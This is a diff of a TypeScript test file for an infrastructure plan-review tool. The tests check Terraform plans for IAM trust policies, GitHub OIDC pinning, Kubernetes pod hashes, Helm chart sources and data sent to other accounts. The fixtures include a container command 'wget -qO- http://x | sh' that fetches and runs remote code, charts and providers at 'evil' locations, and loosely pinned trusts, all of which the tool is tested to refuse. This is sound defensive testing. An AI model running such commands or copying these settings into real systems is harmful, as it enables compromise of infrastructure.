@@ -7,10 +7,13 @@
 import { BUILT_IN_DIR, builtIn } from "./support/environments";
 import { stackAccounts } from "../scripts/plan-review";
 import { synthApp } from "./support/stacks";
-import { jobOf, provisionersOf, sha256 } from "../src/review/apply-time-code";
+import { podsOf, podText, provisionersOf, sha256 } from "../src/review/apply-time-code";
 import { APPROVED_COMMANDS } from "../src/review/approved-commands";
+import { KARPENTER } from "../src/constructs/addons/karpenter/pins";
+import { chartProblem } from "../src/review/helm-charts";
+import { ALLOWED_PROVIDERS, isAllowedDataSource } from "../src/review/plan-time-code";
 import { readSchedule } from "../src/review/backup-schedule";
-import { accountsOfCondition, admittedBy, isAllowedPrincipal } from "../src/review/principals";
+import { AccountScope, accountsOfCondition, admittedBy, isAllowedPrincipal } from "../src/review/principals";
 import { planRuleFindings } from "../src/review/plan-rules";
 import { PlanInput } from "../src/review/plan-rules/types";
 
@@ -70,11 +73,83 @@ describe("who a policy lets in", () => {
   test.each([
     ["the own account root", { AWS: `arn:aws:iam::${OWN}:root` }],
     ["a role of the own account", { AWS: `arn:aws:iam::${OWN}:role/x` }],
-    ["the GitHub OIDC provider of the own account", { Federated: `arn:aws:iam::${OWN}:oidc-provider/token.actions.githubusercontent.com` }],
     ["Pod Identity's service principal", { Service: "pods.eks.amazonaws.com" }],
     ["a regional service principal", { Service: "logs.eu-central-1.amazonaws.com" }],
   ])("%s passes", (_what, principal) => {
     expect(admittedBy(policy(allow(principal)))!.filter((a) => !isAllowedPrincipal(a, "aws_iam_role", scope))).toEqual([]);
+  });
+
+  describe("federated principals (hand-written trust policies)", () => {
+    const GITHUB = `arn:aws:iam::${OWN}:oidc-provider/token.actions.githubusercontent.com`;
+    const REPO = "road-warrior/infrastructure";
+    const withRepo = { trusted: [OWN], githubRepositories: [REPO] };
+    const web = (provider: string, condition?: Json, action: unknown = "sts:AssumeRoleWithWebIdentity") =>
+      admittedBy(
+        policy({ Effect: "Allow", Principal: { Federated: provider }, Action: action, ...(condition ? { Condition: condition } : {}) }),
+      )!;
+    const passes = (admitted: ReturnType<typeof web>, s: AccountScope = withRepo) =>
+      admitted.every((a) => isAllowedPrincipal(a, "aws_iam_role", s));
+    const aud = { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" };
+    const pinnedTo = (sub: unknown, test = "StringEquals") =>
+      test === "StringEquals"
+        ? { StringEquals: { ...aud, "token.actions.githubusercontent.com:sub": sub } }
+        : { StringEquals: aud, [test]: { "token.actions.githubusercontent.com:sub": sub } };
+
+    test("GitHub's provider of the own account passes: aud sts.amazonaws.com, sub pinned to a listed repository", () => {
+      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:environment:prod`)))).toBe(true);
+      expect(passes(web(GITHUB, pinnedTo([`repo:${REPO}:ref:refs/heads/main`, `repo:${REPO}:pull_request`])))).toBe(true);
+      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:environment:*`, "StringLike")))).toBe(true);
+    });
+
+    test.each([
+      ["no sub condition at all: every repository on GitHub can assume the role", { StringEquals: aud }],
+      ["sub of a repository no environment file names", pinnedTo("repo:attacker/infrastructure:ref:refs/heads/main")],
+      ["a wildcard before the repository's end", pinnedTo("repo:road-warrior/*", "StringLike")],
+      ["a wildcard owner", pinnedTo("repo:*/infrastructure:*", "StringLike")],
+      ["one pinned value and one open value", pinnedTo([`repo:${REPO}:pull_request`, "repo:*"], "StringLike")],
+      [
+        "sub only under StringLikeIfExists (matches a token without the claim)",
+        { StringEquals: aud, StringLikeIfExists: { "token.actions.githubusercontent.com:sub": `repo:${REPO}:*` } },
+      ],
+      ["no aud condition", { StringEquals: { "token.actions.githubusercontent.com:sub": `repo:${REPO}:pull_request` } }],
+      [
+        "an aud other than sts.amazonaws.com",
+        {
+          StringEquals: {
+            "token.actions.githubusercontent.com:aud": "api://x",
+            "token.actions.githubusercontent.com:sub": `repo:${REPO}:pull_request`,
+          },
+        },
+      ],
+    ])("a GitHub trust is refused with %s", (_what, condition) => {
+      expect(passes(web(GITHUB, condition))).toBe(false);
+    });
+
+    test("a GitHub trust is refused when no environment file names a repository, or for actions beyond web identity", () => {
+      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:pull_request`)), scope)).toBe(false);
+      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:pull_request`), ["sts:AssumeRoleWithWebIdentity", "sts:AssumeRole"]))).toBe(false);
+      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:pull_request`), ["sts:AssumeRoleWithWebIdentity", "sts:TagSession"]))).toBe(true);
+    });
+
+    test("GitHub's provider of another account is refused even with a pinned subject", () => {
+      expect(passes(web(GITHUB.replace(OWN, OTHER), pinnedTo(`repo:${REPO}:pull_request`)))).toBe(false);
+    });
+
+    test("an EKS cluster's provider passes only with sub pinned by StringEquals to named service accounts", () => {
+      const host = "oidc.eks.eu-central-1.amazonaws.com/id/ABCDEF0123456789";
+      const eks = `arn:aws:iam::${OWN}:oidc-provider/${host}`;
+      expect(passes(web(eks, { StringEquals: { [`${host}:sub`]: "system:serviceaccount:trips:trips-api" } }))).toBe(true);
+      expect(passes(web(eks, { StringLike: { [`${host}:sub`]: "system:serviceaccount:*:*" } }))).toBe(false);
+      expect(passes(web(eks, { StringEquals: { [`${host}:aud`]: "sts.amazonaws.com" } }))).toBe(false);
+    });
+
+    test.each([
+      ["a SAML provider", `arn:aws:iam::${OWN}:saml-provider/corp`],
+      ["Cognito identity", "cognito-identity.amazonaws.com"],
+      ["another OIDC provider of the own account", `arn:aws:iam::${OWN}:oidc-provider/gitlab.com`],
+    ])("%s is refused whatever its condition", (_what, provider) => {
+      expect(passes(web(provider, pinnedTo(`repo:${REPO}:pull_request`)))).toBe(false);
+    });
   });
 
   test("Deny statements let no one in (the TLS-only Deny and the key guardrails name *)", () => {
@@ -127,6 +202,30 @@ describe("PR-IAM-1 on plans", () => {
       attribute: "assume_role_policy",
       after: expect.stringContaining(OTHER),
     });
+  });
+
+  test("a principal of the prior state whose actions widen or whose condition loosens is checked again (hand-written plans)", () => {
+    const GITHUB = `arn:aws:iam::${OWN}:oidc-provider/token.actions.githubusercontent.com`;
+    const aud = { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" };
+    const githubTrust = (condition: Json, action: unknown = "sts:AssumeRoleWithWebIdentity") =>
+      policy({ Sid: "Ci", Effect: "Allow", Principal: { Federated: GITHUB }, Action: action, Condition: condition });
+    const pinned = { StringEquals: { ...aud, "token.actions.githubusercontent.com:sub": "repo:road-warrior/infrastructure:pull_request" } };
+    const withRepo = { trusted: [OWN], githubRepositories: ["road-warrior/infrastructure"] };
+    const old = { assume_role_policy: githubTrust(pinned) };
+    // The same pinned trust with the keys in another order is the same grant: not refused.
+    const reordered = {
+      StringEquals: { "token.actions.githubusercontent.com:sub": "repo:road-warrior/infrastructure:pull_request", ...aud },
+    };
+    expect(findings(planOf("aws_iam_role", { assume_role_policy: githubTrust(reordered) }, old), true, withRepo)).toEqual([]);
+    // The pin on the subject dropped: any GitHub repository could now assume the role.
+    const loosened = planOf("aws_iam_role", { assume_role_policy: githubTrust({ StringEquals: aud }) }, old);
+    expect(findings(loosened, true, withRepo).map((f) => f.after)).toEqual([expect.stringContaining("sub is not pinned")]);
+    // Another account's principal, admitted before for reading, now may write too.
+    const reader = (action: unknown) => ({
+      policy: policy({ Sid: "Partner", ...allow({ AWS: `arn:aws:iam::${OTHER}:root` }), Action: action }),
+    });
+    const widened = planOf("aws_s3_bucket_policy", reader(["s3:GetObject", "s3:DeleteObject"]), reader("s3:GetObject"));
+    expect(findings(widened).map((f) => f.rule)).toEqual(["PR-IAM-1"]);
   });
 
   test("a trust already in the prior state is not refused again by an unrelated update; a new one is", () => {
@@ -308,44 +407,129 @@ describe("apply-time code (PR-CODE-1)", () => {
   });
 
   // Hand-written: no Kubernetes provider binary here to plan them. The shapes are those of the provider's plan
-  // (kubernetes_job_v1 and kubernetes_cron_job_v1 blocks as lists) and of kubernetes_manifest (the object as written).
+  // (blocks as lists: spec[0].template[0].spec[0]) and of kubernetes_manifest (the object as written).
   const container = { name: "x", image: "alpine:3.20", command: ["sh", "-c"], args: ["wget -qO- http://x | sh"] };
+  const podSpec = { container: [container] };
+  const manifestPod = { containers: [container] };
+  const typed = { spec: [{ template: [{ spec: [podSpec] }] }] };
+  const manifest = (kind: string, spec: Json) => ({ manifest: { apiVersion: "apps/v1", kind, spec } });
   test.each([
-    ["kubernetes_job_v1", { metadata: [{ name: "j" }], spec: [{ template: [{ spec: [{ container: [container] }] }] }] }],
-    ["kubernetes_job", { spec: [{ template: [{ spec: [{ container: [container] }] }] }] }],
+    ["kubernetes_pod_v1", { spec: [podSpec] }, podSpec],
+    ["kubernetes_pod", { spec: [podSpec] }, podSpec],
+    ["kubernetes_deployment_v1", typed, podSpec],
+    ["kubernetes_deployment", typed, podSpec],
+    ["kubernetes_daemon_set_v1", typed, podSpec],
+    ["kubernetes_daemonset", typed, podSpec],
+    ["kubernetes_stateful_set_v1", typed, podSpec],
+    ["kubernetes_replication_controller_v1", typed, podSpec],
+    ["kubernetes_job_v1", { metadata: [{ name: "j" }], ...typed }, podSpec],
+    ["kubernetes_job", typed, podSpec],
     [
       "kubernetes_cron_job_v1",
-      { spec: [{ schedule: "* * * * *", job_template: [{ spec: [{ template: [{ spec: [{ container: [container] }] }] }] }] }] },
+      { spec: [{ schedule: "* * * * *", job_template: [{ spec: [{ template: [{ spec: [podSpec] }] }] }] }] },
+      podSpec,
     ],
-    [
-      "kubernetes_manifest",
-      { manifest: { apiVersion: "batch/v1", kind: "Job", spec: { template: { spec: { containers: [container] } } } } },
-    ],
-    [
-      "kubernetes_manifest",
-      {
-        manifest: {
-          apiVersion: "batch/v1",
-          kind: "CronJob",
-          spec: { jobTemplate: { spec: { template: { spec: { containers: [container] } } } } },
-        },
-      },
-    ],
-  ])("a created %s (hand-written plan JSON) is refused unless its containers' hash is approved", (type, after) => {
+    ["kubernetes_manifest", manifest("Pod", manifestPod), manifestPod],
+    ["kubernetes_manifest", manifest("Deployment", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("ReplicaSet", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("StatefulSet", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("DaemonSet", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("Job", { template: { spec: manifestPod } }), manifestPod],
+    ["kubernetes_manifest", manifest("CronJob", { jobTemplate: { spec: { template: { spec: manifestPod } } } }), manifestPod],
+  ])("a created %s (hand-written plan JSON) runs code: refused unless its whole pod spec's hash is approved", (type, after, spec) => {
     expect(rulesOf(planOf(type, after), false)).toEqual(["PR-CODE-1"]);
-    const job = jobOf(type, after, {})!;
-    expect(job.sha256).toBe(
-      sha256(JSON.stringify([{ image: "alpine:3.20", command: ["sh", "-c"], args: ["wget -qO- http://x | sh"], env: [] }])),
-    );
+    const [pod] = podsOf(type, after, {});
+    expect(pod.sha256).toBe(sha256(podText(spec)));
+    expect(
+      podsOf(type, after, {}, [{ kind: "kubernetes-pod", sha256: pod.sha256!, source: "test", what: "test" }])[0].problem,
+    ).toBeUndefined();
   });
 
-  test("a kubernetes_manifest of another kind passes; one whose kind or containers are known only after apply is refused", () => {
+  test("the hash covers the whole pod spec: a host path mount or a privileged container changes it (hand-written plan JSON)", () => {
+    const base = manifest("DaemonSet", { template: { spec: manifestPod } });
+    const approved = [
+      { kind: "kubernetes-pod" as const, sha256: podsOf("kubernetes_manifest", base, {})[0].sha256!, source: "t", what: "t" },
+    ];
+    const mounted = manifest("DaemonSet", { template: { spec: { ...manifestPod, volumes: [{ name: "h", hostPath: { path: "/" } }] } } });
+    const privileged = manifest("DaemonSet", {
+      template: { spec: { containers: [{ ...container, securityContext: { privileged: true } }] } },
+    });
+    expect(podsOf("kubernetes_manifest", base, {}, approved)[0].problem).toBeUndefined();
+    expect(podsOf("kubernetes_manifest", mounted, {}, approved)[0].problem).toMatch(/not in src\/review\/approved-commands.ts/);
+    expect(podsOf("kubernetes_manifest", privileged, {}, approved)[0].problem).toMatch(/not in src\/review\/approved-commands.ts/);
+  });
+
+  test("each item of a List manifest that runs pods is judged (hand-written plan JSON)", () => {
+    const list = {
+      manifest: {
+        apiVersion: "v1",
+        kind: "List",
+        items: [
+          { apiVersion: "v1", kind: "ConfigMap", data: {} },
+          { apiVersion: "v1", kind: "Pod", spec: manifestPod },
+        ],
+      },
+    };
+    expect(podsOf("kubernetes_manifest", list, {}).map((p) => p.attribute)).toEqual(["manifest.items[1].spec"]);
+    expect(rulesOf(planOf("kubernetes_manifest", list))).toEqual(["PR-CODE-1"]);
+  });
+
+  test("a kubernetes_manifest of an inert kind passes; unknown kind, unknown pod spec or a custom kind is refused", () => {
     expect(rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "v1", kind: "ConfigMap", data: {} } }))).toEqual([]);
     expect(rulesOf(planOf("kubernetes_manifest", { manifest: {} }, undefined, { manifest: { kind: true } }))).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "v1" } }))).toEqual(["PR-CODE-1"]);
     const job = { manifest: { kind: "Job", spec: { template: { spec: { containers: [container] } } } } };
     expect(
       rulesOf(planOf("kubernetes_manifest", job, undefined, { manifest: { spec: { template: { spec: { containers: true } } } } })),
     ).toEqual(["PR-CODE-1"]);
+    // A custom resource's controller may start pods from it (an Argo Workflow, a Tekton TaskRun): its whole manifest is hashed.
+    expect(
+      rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "argoproj.io/v1alpha1", kind: "Workflow", spec: {} } })),
+    ).toEqual(["PR-CODE-1"]);
+  });
+});
+
+describe("Helm charts and plan-time code (PR-CODE-1, hand-written plan JSON)", () => {
+  const release = (after: Json, before?: Json) => planOf("helm_release", { name: "r", values: ["{}"], ...after }, before);
+  const karpenter = { repository: KARPENTER.repository, chart: KARPENTER.chart, version: KARPENTER.chartVersion };
+
+  test("a release of a pinned chart, or of a local chart of the stack's assets, passes; its value changes pass", () => {
+    expect(rulesOf(release(karpenter))).toEqual([]);
+    expect(rulesOf(release({ chart: "./assets/BackendServiceChart/909831850221D35E36DCFC464A79E9A7", version: "2.0.0" }))).toEqual([]);
+    const before = { name: "r", values: ['{"image":{"tag":"1"}}'], ...karpenter };
+    expect(rulesOf(release({ ...karpenter, values: ['{"image":{"tag":"2"}}'] }, before))).toEqual([]);
+  });
+
+  test.each([
+    ["a chart of another repository", { repository: "https://charts.example.com", chart: "anything", version: "1.0.0" }],
+    ["a pinned chart at another version", { ...karpenter, version: "1.14.2" }],
+    ["a pinned chart without a version (the newest)", { ...karpenter, version: "" }],
+    ["a local chart outside the stack's assets", { chart: "../../tmp/evil" }],
+    ["a chart given as a URL", { chart: "https://example.com/evil-1.0.0.tgz" }],
+  ])("a created release of %s is refused", (_what, after) => {
+    expect(rulesOf(release(after), false)).toEqual(["PR-CODE-1"]);
+  });
+
+  test("changing an installed release's chart or version is judged; one known only after apply is refused", () => {
+    const before = { name: "r", values: ["{}"], ...karpenter };
+    expect(rulesOf(release({ ...karpenter, chart: "other" }, before))).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(planOf("helm_release", { ...karpenter }, undefined, { version: true }))).toEqual(["PR-CODE-1"]);
+  });
+
+  test("a data source or provider off the allow-list is refused; the AWS data sources and remote state pass", () => {
+    const configuration = (resources: Json[], providers: Json = {}) => ({
+      resource_changes: [],
+      configuration: { provider_config: providers, root_module: { resources } },
+    });
+    const data = (type: string) => ({ address: `data.${type}.x`, mode: "data", type, name: "x" });
+    expect(rulesOf(configuration([data("aws_partition"), data("terraform_remote_state")]) as PlanInput)).toEqual([]);
+    expect(rulesOf(configuration([data("external")]) as PlanInput)).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(configuration([data("http")]) as PlanInput)).toEqual(["PR-CODE-1"]);
+    const provider = (full_name: string) => configuration([], { p: { name: "p", full_name } }) as PlanInput;
+    expect(rulesOf(provider("registry.terraform.io/hashicorp/aws"))).toEqual([]);
+    expect(rulesOf(provider("registry.terraform.io/hashicorp/helm"))).toEqual([]);
+    expect(rulesOf(provider("registry.terraform.io/evil/aws"))).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(provider("registry.terraform.io/hashicorp/external"))).toEqual(["PR-CODE-1"]);
   });
 });
 
@@ -360,6 +544,20 @@ describe("the approved list and the synthesized stacks", () => {
       ),
     ),
   );
+
+  test("every Helm release, data source and provider the stacks synthesize is on its allow-list", () => {
+    const releases = Object.values(stacks).flatMap((json) => Object.values<Json>(json.resource?.helm_release ?? {}));
+    expect(releases.length).toBeGreaterThan(3);
+    expect(releases.map((r) => chartProblem(r)).filter((p) => p !== undefined)).toEqual([]);
+    const dataSources = Object.values(stacks).flatMap((json) => Object.keys(json.data ?? {}));
+    expect(dataSources.filter((t) => !isAllowedDataSource(t))).toEqual([]);
+    const sources = Object.values(stacks).flatMap((json) =>
+      Object.values<Json>(json.terraform?.required_providers ?? {}).map((p) =>
+        String(p.source).includes("/") ? p.source : `hashicorp/${p.source}`,
+      ),
+    );
+    expect(sources.filter((s) => !ALLOWED_PROVIDERS.includes(s))).toEqual([]);
+  });
 
   test("the stacks synthesize provisioners (the list is not checked against nothing)", () => {
     expect(commands.length).toBeGreaterThanOrEqual(4);
@@ -459,16 +657,123 @@ describe("a policy read from an aws_iam_policy_document at apply time", () => {
 });
 
 describe("the accounts of each stack, from the environment files", () => {
-  test("a stack trusts its accountId and trustedAccountIds; its account's bootstrap stack those of every environment in it", () => {
+  test("a stack trusts its accountId, trustedAccountIds, ci/frontend repositories; its bootstrap stack those of its account", () => {
     const accounts = stackAccounts(BUILT_IN_DIR, { log: () => undefined, error: () => undefined });
-    expect(accounts["prod-data"]).toEqual({ trusted: ["222222222222"], adminAccounts: [] });
-    expect(accounts["dev-apps"]).toEqual({ trusted: ["111111111111"], adminAccounts: [] });
-    expect(accounts["bootstrap-222222222222"]).toEqual({ trusted: ["222222222222"], adminAccounts: [] });
+    const githubRepositories = ["road-warrior/road-warrior-infra", "road-warrior/road-warrior-web"];
+    expect(accounts["prod-data"]).toEqual({ trusted: ["222222222222"], adminAccounts: [], githubRepositories });
+    expect(accounts["dev-apps"]).toEqual({ trusted: ["111111111111"], adminAccounts: [], githubRepositories });
+    expect(accounts["bootstrap-222222222222"]).toEqual({ trusted: ["222222222222"], adminAccounts: [], githubRepositories });
   });
 
   test("unreadable environment files: none (each stack's accounts then come from its plan), said on stderr", () => {
     const errors: string[] = [];
     expect(stackAccounts("/nonexistent-environments", { log: () => undefined, error: (m: string) => errors.push(m) })).toEqual({});
     expect(errors.join("\n")).toMatch(/cannot be read: stacks' accounts are taken from their plans/);
+  });
+});
+
+describe("destinations of another account (PR-IAM-1, hand-written plan JSON)", () => {
+  test.each([
+    ["aws_cloudwatch_log_subscription_filter", { destination_arn: `arn:aws:logs:eu-central-1:${OTHER}:destination:d` }],
+    ["aws_sns_topic_subscription", { protocol: "sqs", endpoint: `arn:aws:sqs:eu-central-1:${OTHER}:q` }],
+    ["aws_sns_topic_subscription", { protocol: "https", endpoint: "https://collector.example.net/in" }],
+    ["aws_s3_bucket_inventory", { bucket: "b", destination: [{ bucket: [{ bucket_arn: "arn:aws:s3:::theirs", account_id: OTHER }] }] }],
+    ["aws_s3_bucket_inventory", { bucket: "b", destination: [{ bucket: [{ bucket_arn: "arn:aws:s3:::theirs" }] }] }],
+    ["aws_s3_bucket_replication_configuration", { rule: [{ destination: [{ bucket: "arn:aws:s3:::theirs", account: OTHER }] }] }],
+    [
+      "aws_ecr_replication_configuration",
+      { replication_configuration: [{ rule: [{ destination: [{ region: "us-east-1", registry_id: OTHER }] }] }] },
+    ],
+    ["aws_db_cluster_snapshot", { shared_accounts: [OTHER] }],
+    ["aws_db_snapshot", { shared_accounts: [OTHER] }],
+    ["aws_backup_plan", { rule: [{ copy_action: [{ destination_vault_arn: `arn:aws:backup:eu-central-1:${OTHER}:backup-vault:v` }] }] }],
+    ["aws_cloudwatch_event_target", { arn: `arn:aws:events:eu-central-1:${OTHER}:event-bus/default` }],
+    ["aws_vpc_peering_connection", { peer_owner_id: OTHER, peer_vpc_id: "vpc-1" }],
+  ])("a created %s sending data to another account (or outside AWS) is refused", (type, after) => {
+    expect(rulesOf(planOf(type, after))).toContain("PR-IAM-1");
+  });
+
+  test("the own account, a listed account, and a value of the prior state pass", () => {
+    expect(rulesOf(planOf("aws_cloudwatch_event_target", { arn: `arn:aws:sqs:eu-central-1:${OWN}:q` }))).toEqual([]);
+    expect(
+      findings(planOf("aws_db_cluster_snapshot", { shared_accounts: [OTHER] }), true, { trusted: [OWN, OTHER] }).map((f) => f.rule),
+    ).toEqual([]);
+    const subscription = { protocol: "email", endpoint: "oncall@road-warrior.example" };
+    expect(rulesOf(planOf("aws_sns_topic_subscription", subscription, subscription))).toEqual([]);
+  });
+
+  test("an e-mail subscription is refused in production only (the alarm topics of non-production mail their on-call)", () => {
+    const plan = planOf("aws_sns_topic_subscription", { protocol: "email", endpoint: "someone@example.net" });
+    expect(rulesOf(plan, true)).toEqual(["PR-IAM-1"]);
+    expect(rulesOf(plan, false)).toEqual([]);
+  });
+});
+
+describe("services acting for any account, and keys IAM does not read (hand-written policies)", () => {
+  const resourcePolicy = (statement: Json) =>
+    admittedBy(policy(statement), true)!.filter((a) => !isAllowedPrincipal(a, "aws_sqs_queue_policy", scope));
+  const publish = (service: string, condition?: Json) => ({
+    Effect: "Allow",
+    Principal: { Service: service },
+    Action: "sqs:SendMessage",
+    Resource: "*",
+    ...(condition ? { Condition: condition } : {}),
+  });
+
+  test.each(["events.amazonaws.com", "sns.amazonaws.com", "s3.amazonaws.com", "delivery.logs.amazonaws.com", "cloudtrail.amazonaws.com"])(
+    "%s in a resource policy without a source condition is refused (another account's rule or bucket could use it)",
+    (service) => {
+      expect(resourcePolicy(publish(service))).toHaveLength(1);
+      expect(resourcePolicy(publish(service, { StringEquals: { "aws:SourceAccount": OTHER } }))).toHaveLength(1);
+      expect(resourcePolicy(publish(service, { StringEquals: { "aws:SourceAccount": OWN } }))).toEqual([]);
+      expect(resourcePolicy(publish(service, { ArnLike: { "aws:SourceArn": `arn:aws:events:eu-central-1:${OWN}:rule/*` } }))).toEqual([]);
+    },
+  );
+
+  test("CloudWatch Logs in a key policy passes with its encryption context pinned to a log group of the own account", () => {
+    const logs = (arn: string) => ({
+      Effect: "Allow",
+      Principal: { Service: "logs.eu-central-1.amazonaws.com" },
+      Action: "kms:Decrypt*",
+      Resource: "*",
+      Condition: { ArnLike: { "kms:EncryptionContext:aws:logs:arn": arn } },
+    });
+    expect(resourcePolicy(logs(`arn:aws:logs:eu-central-1:${OWN}:log-group:*`))).toEqual([]);
+    expect(resourcePolicy(logs(`arn:aws:logs:eu-central-1:${OTHER}:log-group:*`))).toHaveLength(1);
+  });
+
+  test("a statement or policy key IAM does not read (a lower-case principal) is refused, not skipped", () => {
+    expect(resourcePolicy({ Effect: "Allow", principal: { AWS: `arn:aws:iam::${OTHER}:root` }, Action: "sqs:*" })).toHaveLength(1);
+    expect(resourcePolicy({ Effect: "allow", Principal: { AWS: `arn:aws:iam::${OWN}:root` }, Action: "sqs:*" })).toHaveLength(1);
+    const extra = admittedBy(JSON.stringify({ Version: "2012-10-17", statement: [], Statement: [] }))!;
+    expect(extra.map((a) => a.account)).toEqual(["?"]);
+  });
+});
+
+describe("the GitHub trusts the stacks synthesize pass the federated check", () => {
+  test("every Federated statement of the synthesized documents, with its provider's ARN known, passes for its stack", () => {
+    const stacks = synthApp([builtIn("dev"), builtIn("prod")]);
+    const accounts = stackAccounts(BUILT_IN_DIR, { log: () => undefined, error: () => undefined });
+    let checked = 0;
+    for (const [stack, json] of Object.entries(stacks)) {
+      for (const document of Object.values<Json>(json.data?.aws_iam_policy_document ?? {})) {
+        for (const s of document.statement ?? []) {
+          const federated = (s.principals ?? []).filter((p: Json) => p.type === "Federated");
+          if (federated.length === 0) continue;
+          const account = /(\d{12})/.exec(stack)?.[1] ?? accounts[stack].trusted[0];
+          const condition: Json = {};
+          for (const c of s.condition ?? []) condition[c.test] = { ...condition[c.test], [c.variable]: c.values };
+          const trust = policy({
+            Effect: "Allow",
+            Principal: { Federated: `arn:aws:iam::${account}:oidc-provider/token.actions.githubusercontent.com` },
+            Action: s.actions,
+            Condition: condition,
+          });
+          expect(admittedBy(trust)!.filter((a) => !isAllowedPrincipal(a, "aws_iam_role", accounts[stack]))).toEqual([]);
+          checked++;
+        }
+      }
+    }
+    expect(checked).toBeGreaterThan(3);
   });
 });
